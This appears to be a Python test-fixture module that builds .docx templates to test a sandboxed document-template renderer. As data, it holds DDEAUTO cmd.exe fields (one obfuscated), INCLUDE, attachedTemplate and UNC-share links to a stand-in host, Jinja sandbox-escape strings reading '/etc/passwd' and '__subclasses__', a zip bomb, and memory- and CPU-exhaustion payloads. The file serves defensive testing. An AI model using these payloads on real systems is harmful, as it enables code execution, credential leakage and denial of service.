"""Small .docx templates written by code, friendly and hostile: paragraphs, footnotes, document properties,
several sections, active and external content, and zip bombs."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

from docx import Document

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CONTENT_FOOTNOTES = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"


def docx_with(path: Path, *paragraphs: str, title: str = "", sections: int = 1) -> Path:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    for index in range(1, sections):
        document.add_section()
        document.add_paragraph(f"第 {index + 1} 节")
    if title:
        document.core_properties.title = title
    document.save(path)
    return path


def rewrite(
    path: Path, edits: dict[str, Callable[[str], str]], added: dict[str, bytes] | None = None
) -> Path:
    """Change members of a .docx by text, and add members."""
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    for member, edit in edits.items():
        members[member] = edit(members.get(member, b"").decode("utf-8")).encode("utf-8")
    members.update(added or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, blob in members.items():
            archive.writestr(member, blob)
    path.write_bytes(buffer.getvalue())
    return path


def _relationship(rid: str, kind: str, target: str, external: bool = False) -> Callable[[str], str]:
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{mode}/>'
    return lambda xml: xml.replace("</Relationships>", element + "</Relationships>")


def _override(part: str, content_type: str) -> Callable[[str], str]:
    element = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    return lambda xml: xml.replace("</Types>", element + "</Types>")


def _in_body(fragment: str) -> Callable[[str], str]:
    """Insert XML before the body's final section properties."""
    return lambda xml: xml.replace("<w:sectPr", fragment + "<w:sectPr", 1) if "<w:sectPr" in xml else xml


def _chain(*edits: Callable[[str], str]) -> Callable[[str], str]:
    def run(xml: str) -> str:
        for edit in edits:
            xml = edit(xml)
        return xml

    return run


def with_footnote(path: Path, text: str) -> Path:
    """A footnote (its text may hold template tags) referenced from the first paragraph."""
    notes = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:footnotes xmlns:w="{W_NS}">'
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p>'
        f'</w:footnote><w:footnote w:id="1"><w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
        "</w:footnote></w:footnotes>"
    )
    reference = '<w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    return rewrite(
        path,
        {
            "word/document.xml": lambda xml: xml.replace("</w:p>", reference, 1),
            "word/_rels/document.xml.rels": _relationship("rIdFN", "footnotes", "footnotes.xml"),
            "[Content_Types].xml": _override("word/footnotes.xml", CONTENT_FOOTNOTES),
        },
        {"word/footnotes.xml": notes.encode("utf-8")},
    )


# ---------------------------------------------------------------- active and external content

ACTIVE_KINDS = (
    "attachedTemplate",
    "altChunk",
    "ole",
    "ddeauto",
    "includetext",
    "includepicture",
    "file_link",
)


def with_active_content(path: Path, kinds: tuple[str, ...] = ACTIVE_KINDS) -> Path:
    """Each kind of content that makes Word fetch or run something when the document is opened."""
    body: list[str] = []
    document_rels: list[Callable[[str], str]] = []
    types: list[Callable[[str], str]] = []
    edits: dict[str, Callable[[str], str]] = {}
    added: dict[str, bytes] = {}
    if "attachedTemplate" in kinds:
        edits["word/settings.xml"] = lambda xml: xml.replace(
            "<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdAT"/><w:zoom', 1
        )
        added["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdAT" Type="{REL}attachedTemplate" Target="http://203.0.113.7/模板.dotm"'
            ' TargetMode="External"/></Relationships>'
        ).encode()
    if "altChunk" in kinds:
        body.append(f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdAC"/>')
        document_rels.append(_relationship("rIdAC", "aFChunk", "afchunk.mht"))
        types.append(_override("word/afchunk.mht", "message/rfc822"))
        added["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>chunk</html>"
    if "ole" in kinds:
        body.append(
            '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
            f'<o:OLEObject xmlns:r="{R_NS}" Type="Embed" ProgID="Package" r:id="rIdOLE"/></w:object></w:r></w:p>'
        )
        document_rels.append(_relationship("rIdOLE", "oleObject", "embeddings/oleObject1.bin"))
        types.append(
            _override(
                "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
            )
        )
        added["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 package"
    if "ddeauto" in kinds:
        body.append(field_paragraph(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "DDE结果"))
    if "includetext" in kinds:
        body.append(
            '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\203.0.113.7\\\\share\\\\a.docx&quot; ">'
            "<w:r><w:t>包含的文字</w:t></w:r></w:fldSimple></w:p>"
        )
    if "includepicture" in kinds:
        body.append(field_paragraph(' INCLUDEPICTURE "http://203.0.113.7/p.png" \\d ', "图片"))
    if "file_link" in kinds:
        body.append(
            f'<w:p><w:hyperlink xmlns:r="{R_NS}" r:id="rIdFL"><w:r><w:t>共享盘链接</w:t></w:r></w:hyperlink></w:p>'
        )
        document_rels.append(
            _relationship("rIdFL", "hyperlink", "file://203.0.113.7/share/x.docx", external=True)
        )
    edits["word/document.xml"] = _in_body("".join(body))
    if document_rels:
        edits["word/_rels/document.xml.rels"] = _chain(*document_rels)
    if types:
        edits["[Content_Types].xml"] = _chain(*types)
    return rewrite(path, edits, added)


def field_paragraph(instruction: str, shown: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


_FLD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
_INSTR = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
_PICTURE = ' INCLUDEPICTURE "http://203.0.113.7/p.png" \\d '

# Fields the template's own text does not show as active and rendering makes active (a DDEAUTO or
# INCLUDEPICTURE field in the report): stripping the template before rendering misses them.
MADE_FIELDS: dict[str, str] = {
    "tag_before_code": field_paragraph(
        "{{ '' }}DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "结果"
    ),
    "code_built_by_tag": field_paragraph(
        "{{ 'DDE' ~ 'AUTO' }} c:\\\\windows\\\\system32\\\\cmd.exe ", "结果"
    ),
    "simple_field": (
        "<w:p><w:fldSimple w:instr=\"{{ '' }}INCLUDEPICTURE &quot;http://203.0.113.7/p.png&quot;\">"
        "<w:r><w:t>图片</w:t></w:r></w:fldSimple></w:p>"
    ),
    "if_around_separator": (
        f"<w:p>{_FLD.format('begin')}<w:r><w:t>{{% if false %}}</w:t></w:r>{_FLD.format('separate')}"
        f"<w:r><w:t>{{% endif %}}</w:t></w:r>{_INSTR.format(_PICTURE)}{_FLD.format('separate')}"
        f"<w:r><w:t>图片</w:t></w:r>{_FLD.format('end')}</w:p>"
    ),
}
_CMD = " c:\\\\windows\\\\system32\\\\cmd.exe "
# A field whose name a nested field spells: { {QUOTE 68 68 69 65 85 84 79} "cmd.exe" } is DDEAUTO to Word.
NESTED_NAME_FIELD = (
    f"<w:p>{_FLD.format('begin')}{_FLD.format('begin')}{_INSTR.format(' QUOTE 68 68 69 65 85 84 79 ')}"
    f"{_FLD.format('separate')}<w:r><w:t>DDEAUTO</w:t></w:r>{_FLD.format('end')}"
    f"{_INSTR.format(_CMD)}{_FLD.format('separate')}"
    f"<w:r><w:t>结果</w:t></w:r>{_FLD.format('end')}</w:p>"
)
DATA_FIELD = field_paragraph("{{ 单位.名称 }}", "结果")  # the unit's name as a field's code

# Fields that run, connect or leak credentials besides DDE and INCLUDE…: each with the words check names.
RUNNING_FIELDS: dict[str, tuple[str, str]] = {
    "database": (' DATABASE \\d "\\\\203.0.113.7\\share\\x.mdb" \\s "select 1" ', "DATABASE"),
    "macrobutton": (" MACROBUTTON FileOpen 点击这里 ", "MACROBUTTON"),
    "print": (' PRINT "%!PS-Adobe" ', "PRINT"),
    "hyperlink_to_a_share": (' HYPERLINK "file://203.0.113.7/share/x.docx" ', "HYPERLINK"),
}


def _rewritten(opening: str, markup: str, closing: str) -> str:
    return f"<w:p><w:r><w:t>{opening}</w:t></w:r></w:p>{markup}<w:p><w:r><w:t>{closing}</w:t></w:r></w:p>"


_BOOKMARK = f'<w:bookmarkStart xmlns:r="{R_NS}" w:id="9" w:name="x" r:id="rId1"/>'
# The template's own harmless markup rewritten while rendering by a {% filter %} block or by |replace or
# .replace() on a macro's output into what the template was stripped of: each with what the refusal names.
MARKUP_REWRITES: dict[str, tuple[str, str]] = {
    "filter_to_altchunk": (
        _rewritten("{% filter replace('w:bookmarkStart', 'w:altChunk') %}", _BOOKMARK, "{% endfilter %}"),
        "嵌入的外部文档块（altChunk）",
    ),
    "filter_to_subdoc": (
        _rewritten("{% filter replace('w:bookmarkStart', 'w:subDoc') %}", _BOOKMARK, "{% endfilter %}"),
        "子文档",
    ),
    "macro_replaced_to_object": (
        _rewritten(
            "{% macro m() %}",
            '<w:p><w:bookmarkEnd w:id="9"/></w:p>',
            "{% endmacro %}{{ m()|replace('bookmarkEnd', 'object') }}",
        ),
        "嵌入的对象（OLE）",
    ),
    "method_replaced_to_altchunk": (
        _rewritten(
            "{% macro m() %}",
            _BOOKMARK,
            "{% endmacro %}{{ m().replace('w:bookmarkStart', 'w:altChunk') }}",
        ),
        "嵌入的外部文档块（altChunk）",
    ),
}


def with_body(path: Path, fragment: str) -> Path:
    return rewrite(path, {"word/document.xml": _in_body(fragment)})


ACTIVE_MARKERS = (
    "attachedTemplate",
    "altChunk",
    "OLEObject",
    "DDEAUTO",
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "file://",
)


def zip_bomb(path: Path, megabytes: int = 100) -> Path:
    """A template with a part that unpacks to `megabytes` of zeros from about a thousandth of that."""
    docx_with(path, "{{ 单位.名称 }}")
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image1.png", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(chunk)
    return path


# ---------------------------------------------------------------- hostile template text


def nested(opening: str, closing: str, depth: int, inner: str = "x") -> str:
    return opening * depth + inner + closing * depth


def _doubling_callers(depth: int) -> str:
    body = "x"
    for _ in range(depth):
        body = "{% call m() %}" + body + "{% endcall %}"
    return "{% macro m() %}{{ caller() }}{{ caller() }}{% endmacro %}" + body


# Refused by `templates check` and `add`, before anything runs.
HOSTILE: dict[str, str] = {
    "class_escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ 单位.get.__globals__ }}",
    "getitem_escape": "{{ 单位['__class__'] }}",
    "attr_filter": "{{ 单位|attr('__class__') }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'macros.html' as m %}",
    "extends": "{% extends 'base.docx' %}",
    "huge_repeat": "{{ '好' * 100000000 }}",
    "huge_range": "{% for i in range(100000000) %}{{ i }}{% endfor %}",
    "huge_power": "{{ 9 ** 9999999 }}",
    "recursion": "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "mutual_recursion": "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
    "self_reference": "{{ self }}",
    "cycler": "{{ cycler.__init__ }}",
    "center_folded": "{{ 'x'|center(3000000000) }}",
    "autoescape_off": "{% autoescape false %}{{ 单位.名称 }}{% endautoescape %}",
    "safe_filter": "{{ 单位.名称|safe }}",
    "nested_for_25": nested("{% for i in [1] %}", "{% endfor %}", 25),
    "nested_if_500": nested("{% if true %}", "{% endif %}", 500),
    "digits_5000": "{{ " + "9" * 5000 + " }}",
    "batch_constant": "{{ [1]|batch(999999999, 'x')|list }}",
    # Python's text for an object, never content: “range(0, 10)”, “<Macro 'm'>”, “<generator object …>”
    "range_written": "{{ range(10) }}",
    "macro_written": "{% macro m() %}x{% endmacro %}{{ m }}",
    "loop_written": "{% for i in [1] %}{{ loop }}{{ loop.cycle }}{% endfor %}",
    "generator_written": "{{ 荣誉|map(attribute='称号') }}",
    "field_group_written": "{{ 单位 }}",
    "urlize": "{{ 'www.example.cn'|urlize }}",  # writes an HTML <a> element into the document's XML
}

# Small templates that make hundreds of MB of text on their way to the output: in blocks the output
# cap of the document never sees (macros, {% set %}, {% call %}, {% filter %}) or through filters.
EXPANDING: dict[str, str] = {
    "macro": (
        "{% macro m() %}{% for i in range(10000) %}{{ 'x' * 100000 }}{% endfor %}{% endmacro %}"
        "{{ m()|length }}"
    ),
    "set_block": (
        "{% set s = '好' * 1000 %}{% set x %}{% for i in range(10000) %}{% for j in range(10000) %}"
        "{{ s }}{% endfor %}{% endfor %}{% endset %}{{ x|length }}"
    ),
    "call_doubling": "{% macro m() %}{{ caller() }}{{ caller() }}{% endmacro %}"
    + nested("{% call m() %}", "{% endcall %}", 14, "{{ 'x' * 100000 }}"),
    "replace_chain": (
        "{% set s = '好' * 900000 %}{% set l = [] %}"
        "{% for i in range(10000) %}{{ l.append(s|replace('好', '坏')) }}{% endfor %}"
    ),
}

# Lists, dicts, bytes and copies grown where the count did not look (each with the words of the message):
# in place by a method (extend, update), fed by a generator over the list itself, by encoding or slicing,
# or by docxtpl after rendering (each tab of the output becomes runs of its own). Each took the worker to
# its memory limit or past its time.
_BIG_TEXT = "{% set s = 'x' * 1000000 %}{% set keep = [] %}"
GROWING: dict[str, tuple[str, str]] = {
    "extend_by_range": (
        "{% set l = [] %}{% for i in range(10000) %}{{ l.extend(range(i * 10000, i * 10000 + 10000)) }}"
        "{% endfor %}",
        "超过上限（200 MB）",
    ),
    "extend_copies": (
        "{% set big = [0] * 100000 %}{% set keep = [] %}{% for i in range(10000) %}{% set m = [] %}"
        "{{ m.extend(big) }}{{ keep.append(m) }}{% endfor %}",
        "超过上限（200 MB）",
    ),
    "update_from_a_generator": (
        "{% set d = {} %}{% for i in range(10000) %}"
        "{{ d.update(range(i * 10000, i * 10000 + 10000)|batch(2)) }}{% endfor %}",
        "超过上限（200 MB）",
    ),
    "extend_by_batches": (
        "{% set keep = [] %}{% for i in range(10000) %}{{ keep.extend([1]|batch(1000000, 'x')) }}{% endfor %}",
        "超过上限（200 MB）",
    ),
    "extend_by_itself": ("{% set l = [1] %}{{ l.extend(l|map('int')) }}", "列表过长"),
    "encoded_copies": (
        _BIG_TEXT + "{% for i in range(10000) %}{{ keep.append(s.encode('utf-32')) }}{% endfor %}",
        "超过上限（200 MB）",
    ),
    "sliced_copies": (
        _BIG_TEXT + "{% for i in range(10000) %}{{ keep.append(s[i:]) }}{% endfor %}",
        "超过上限（200 MB）",
    ),
    "tabs_expanded": (
        "{% set t = '\\t' * 1000000 %}{% for i in range(40) %}{{ t }}{% endfor %}",
        "超过上限（5000 万字）",
    ),
}

# Burns CPU and builds nothing: one step (a loop's turn) compares million-item lists sixteen times.
SLOW_STEPS = (
    "{% set l = ('x' * 1000000)|list %}{% set m = l[:] %}{% for i in range(10000) %}{% if "
    + " and ".join(["l == m"] * 16)
    + " %}{% endif %}{% endfor %}"
)


def dense_paragraphs(path: Path, loops: int, per_loop: int = 1000) -> Path:
    """A template whose loop repeats its own empty paragraphs (<w:p/>): a text the count does not see
    grow (the template's own, 6 characters each) whose parsed tree takes about 120 bytes an element."""
    docx_with(
        path,
        "{{ 单位.名称 }}",
        '{% if 成文日期 == "2000年1月1日" %}{% for i in range(' + str(loops) + ") %}",
        "{% endfor %}{% endif %}",
    )

    def edit(xml: str) -> str:
        after = xml.index("<w:p>", xml.index("range("))  # the paragraph of the endfor
        return xml[:after] + "<w:p/>" * per_loop + xml[after:]

    return rewrite(path, {"word/document.xml": edit})


# Pass the checks (nothing in them is wrong to look at) and are stopped while rendering, with a Chinese
# message naming the template and the unit. Each with the words the message must contain.
STOPPED: dict[str, tuple[str, str]] = {
    "silent_loops": (
        nested("{% for i in range(10000) %}", "{% endfor %}", 3, ""),
        "秒仍未完成",
    ),
    "recursive_for": ("{% for i in [1, 2] recursive %}{{ loop([1, 2]) }}{% endfor %}", "嵌套或递归过深"),
    "exponential_for": (
        "{% for i in [1, 2] recursive %}{% if loop.depth < 60 %}{{ loop([1, 2]) }}{% endif %}{% endfor %}",
        "秒仍未完成",
    ),
    "caller_doubling": (_doubling_callers(30), "秒仍未完成"),
    "list_sum": ("{{ (([0] * 100000) * 1000)|sum }}", "过长"),
    "tower_power": ("{{ ((3 ** 1000) ** 1000) ** 1000 }}", "乘方得到的数过大"),
    "replace": ("{{ ('x' * 100000)|replace('x', 'y' * 10000) }}", "替换后的内容过长"),
    "indent": ("{{ ('x\\n' * 100000)|indent(100000) }}", "缩进后的内容过长"),
    "ljust": ("{% set n = 30000 * 100000 %}{{ 'x'.ljust(n) }}", "补齐后的内容过长"),
    "format_width": ("{{ '{:>999999999}'.format(1) }}", "格式化的内容过长"),
    "percent_width": ("{{ '%999999999d' % 1 }}", "格式化的内容过长"),
    # a width that only a nested field gives ('}}' would end the tag, hence the ~)
    "format_width_as_text": ("{{ ('{:>{}' ~ '}').format(1, '999999999') }}", "格式化的内容过长"),
    "format_map_width": ("{{ ('{x:{w}' ~ '}').format_map({'x': 1, 'w': 999999999}) }}", "格式化的内容过长"),
    "join": ("{{ (['x' * 100000] * 10)|join('y' * 100000) }}", "过长"),
    "batch": ("{% set n = 30000 * 100000 %}{{ [1]|batch(n, 'x')|list }}", "分组过长"),
    "extend_doubling": (
        "{% set a = ['x' * 1000] %}{% for i in range(40) %}{{ a.extend(a) }}{% endfor %}",
        "列表过长",
    ),
    "division_by_zero": ("{{ 1 / 0 }}", "除数为零"),
    "circular_tojson": ("{% set a = [1] %}{{ a.append(a) }}{{ a|tojson }}", "过长"),
    "ordinal_of_empty": ("{{ 单位.简称|序号 }}", "不是数字的内容当作数字"),
    "range_in_a_name": ("{% set 数 = range(3) %}{{ 数 }}", "range() 只能用在“{% for %}”中"),
    "range_joined": ("{{ 单位.名称 ~ range(3) }}", "range() 只能用在“{% for %}”中"),
    "method_formatted": ("{{ '%s' % 单位.get }}", "调用时要加括号"),
    "group_as_text": ("{{ 单位|string }}", "一组字段"),
    "iterator_written": ("{{ [1, 2]|reverse }}", "尚未展开的一串内容"),
    "python_text": ("{{ {'a': [1]|reverse}|xmlattr }}", "程序内部的文字"),
    # EXPANDING's payloads are not here: they take 1–2 s of CPU to reach the count, and the 2 s time limit
    # these run under (bounded.TEST_LIMITS) now reads the clock every 16 steps, so on a busy machine the
    # time limit stopped them first. test_sandbox_output.py asserts the count stops them (30 s limit).
}
